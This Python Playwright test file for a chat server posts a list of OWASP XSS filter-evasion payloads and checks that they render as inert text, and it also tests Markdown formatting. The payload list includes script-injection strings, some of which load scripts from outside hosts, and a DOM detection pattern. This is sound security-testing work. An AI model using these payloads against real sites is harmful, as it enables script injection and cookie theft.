# ruff: noqa: E501 (the payloads are quoted verbatim from the cheat sheet, long lines and all)
"""Formatted messages in headless Chromium against the real server: the Markdown subset shows
live and after a reload, the same; the OWASP XSS filter-evasion payloads, posted through the
real socket, run no script and put no event handler or javascript: URL in the DOM."""

import re

import pytest
from playwright.sync_api import Page, expect

from rooms.formatting import LINK_REL

from .support.server import LiveServer, live_server, room_create, signup

pytestmark = [pytest.mark.server, pytest.mark.browser]

expect.set_options(timeout=15_000)

# Every way a payload could run code ends in one of these, counted in the page.
TRAP = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  const original = window[name];
  window[name] = function (...args) { window.__xss.push(name + ":" + String(args[0])); };
}
document.addEventListener("securitypolicyviolation", (e) => window.__xss.push("csp:" + e.blockedURI));
"""

# What may not reach the DOM of the message list: handlers, scripts, frames, script URLs.
DOM_CHECK = """() => {
  const found = [];
  for (const node of document.querySelectorAll("#messages *")) {
    if (/^(SCRIPT|IFRAME|FRAME|OBJECT|EMBED|IMG|SVG|svg|MATH|STYLE|LINK|META|BASE|FORM|INPUT|VIDEO|AUDIO|SOURCE|TABLE|BODY|XSS)$/i.test(node.tagName))
      found.push("element " + node.tagName);
    for (const name of node.getAttributeNames()) {
      const value = (node.getAttribute(name) || "").replace(/[\\s\\u0000-\\u001f]+/g, "").toLowerCase();
      if (name.startsWith("on")) found.push("handler " + name + " on " + node.tagName);
      // data-body holds the text as written (never a URL the browser follows)
      const inert = name.startsWith("data-") || name.startsWith("aria-");
      if (!inert && /^(javascript|vbscript|data|livescript|mocha):/.test(value))
        found.push(name + "=" + value);
      if (name === "style" || name === "srcdoc" || name === "formaction") found.push("attribute " + name);
    }
  }
  return found;
}"""

# The OWASP XSS Filter Evasion Cheat Sheet's payloads (and a few of the Markdown kind).
PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "[click](javascript:alert('XSS'))",
    "[click](JaVaScRiPt:alert('XSS'))",
    "[click](javascript&#58;alert('XSS'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert('XSS'))",
    '[x](https://example.com/"onmouseover="alert(1))',
    "<javascript:alert('XSS')>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
]


@pytest.fixture(scope="module")
def server():
    """The real server; the corpus is posted faster than a person types, so a higher burst."""
    with live_server(CHAT_RATE_BURST="200") as running:
        yield running


def open_room(browser, server: LiveServer, client, path: str) -> Page:
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    context.add_init_script(script=TRAP)
    context.add_cookies(
        [{"name": k, "value": v, "url": server.url} for k, v in client.cookies.items()]
    )
    page = context.new_page()
    page.on(
        "dialog", lambda dialog: (dialog.dismiss(), page.evaluate("window.__xss.push('dialog')"))
    )
    page.goto(server.url + path)
    expect(page.locator("#status")).to_have_class(re.compile("status-open"))
    return page


def stored_bodies(page: Page) -> list[str]:
    return page.locator("#messages > li[data-id] .body").evaluate_all(
        "nodes => nodes.map(n => n.dataset.body)"
    )


def assert_inert(page: Page) -> None:
    page.wait_for_timeout(500)  # let any handler that an image load or error would run, run
    assert page.evaluate("() => window.__xss") == []
    assert page.evaluate(DOM_CHECK) == []


def test_owasp_xss_payloads_render_as_text_or_inert_markup_live_and_after_reload(server, browser):
    assert len(PAYLOADS) >= 30
    author = signup(server.url, "mallory")
    reader = signup(server.url, "victim")
    path = room_create(author, "XSS corpus")
    mallory = open_room(browser, server, author, path)
    victim = open_room(browser, server, reader, path)

    for payload in PAYLOADS:
        mallory.fill("#message-input", payload)
        mallory.press("#message-input", "Enter")
    # Live: every payload reached the reader's open page through the socket, whole.
    expect(victim.locator("#messages > li[data-id]")).to_have_count(len(PAYLOADS), timeout=60_000)
    expect(mallory.locator("#messages > li.pending")).to_have_count(0)
    assert stored_bodies(victim) == [p.strip() for p in PAYLOADS]
    for page in (mallory, victim):
        assert_inert(page)
        # Hovering and clicking every rendered element triggers nothing either.
        for link in page.locator("#messages .body a").all():
            assert link.get_attribute("href").startswith(("http://", "https://", "mailto:"))
            assert link.get_attribute("rel") == LINK_REL

    # After a reload the server renders the same history: same text, same markup, still inert.
    live_html = victim.locator("#messages .body").evaluate_all("ns => ns.map(n => n.innerHTML)")
    victim.reload()
    expect(victim.locator("#status")).to_have_class(re.compile("status-open"))
    assert stored_bodies(victim) == [p.strip() for p in PAYLOADS]
    reloaded = victim.locator("#messages .body").evaluate_all("ns => ns.map(n => n.innerHTML)")
    assert [h.strip() for h in reloaded] == [h.strip() for h in live_html]
    assert_inert(victim)


def test_the_markdown_subset_shows_the_same_live_and_after_reload(server, browser):
    author = signup(server.url, "writer")
    reader = signup(server.url, "reader")
    path = room_create(author, "Formatting")
    writer = open_room(browser, server, author, path)
    page = open_room(browser, server, reader, path)

    body = "**bold** _italic_ `code` see https://example.com/x\n\n> quoted\n\n- one\n- two"
    writer.fill("#message-input", body)
    writer.press("#message-input", "Enter")

    def check(page: Page) -> None:
        item = page.locator("#messages > li[data-id]").last
        expect(item.locator(".body strong")).to_have_text("bold")
        expect(item.locator(".body em")).to_have_text("italic")
        expect(item.locator(".body code")).to_have_text("code")
        expect(item.locator(".body blockquote")).to_have_text("quoted")
        expect(item.locator(".body ul > li")).to_have_text(["one", "two"])
        link = item.locator(".body a")
        expect(link).to_have_attribute("href", "https://example.com/x")
        expect(link).to_have_attribute("rel", LINK_REL)

    check(page)
    check(writer)
    # A reply quotes the text as shown, plain, in the composer and in the quote everyone sees.
    shown = "bold italic code see https://example.com/x quoted one two"
    page.locator("#messages > li[data-id]").last.get_by_role("button", name="Reply").click()
    expect(page.locator("#composer-context-text")).to_have_text("Replying to writer: " + shown)
    page.keyboard.type("agreed")
    page.keyboard.press("Enter")
    for each in (page, writer):
        expect(each.locator("#messages > li[data-id] .quote-text")).to_have_text(shown)
    # Editing starts from the text the author wrote, not from what it renders to.
    writer.locator("#messages > li[data-id]").first.get_by_role("button", name="Edit").click()
    expect(writer.locator("#message-input")).to_have_value(body)
    writer.fill("#message-input", "now ~~struck~~")
    writer.press("#message-input", "Enter")
    expect(page.locator("#messages > li[data-id] .body s")).to_have_text("struck")
    expect(page.locator(".quote-text")).to_have_text("now struck")
    page.reload()
    expect(page.locator("#messages > li[data-id] .body s")).to_have_text("struck")
    expect(page.locator("#messages > li[data-id] .edited").first).to_be_visible()
    expect(page.locator(".quote-text")).to_have_text("now struck")
